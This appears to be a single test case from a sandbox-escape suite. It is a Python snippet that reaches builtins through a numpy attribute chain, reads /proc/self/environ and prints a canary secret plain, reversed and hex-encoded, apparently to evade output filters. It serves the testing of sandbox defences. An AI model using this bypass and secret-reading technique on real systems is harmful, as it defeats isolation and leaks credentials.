# attempts: read /proc/self/environ (the environment at exec time) with builtins.open and print the canary entry
# effect: env
# step: read /proc/self/environ
B = np.random.bit_generator.re.enum.bltns
data = B.open('/proc/self/environ', 'rb').read()
for entry in data.split(b'\0'):
    if entry.startswith(b'HGEN_TEST_SECRET='):
        v = entry.split(b'=', 1)[1]
        print(v.decode(), v[::-1].decode(), v.hex())
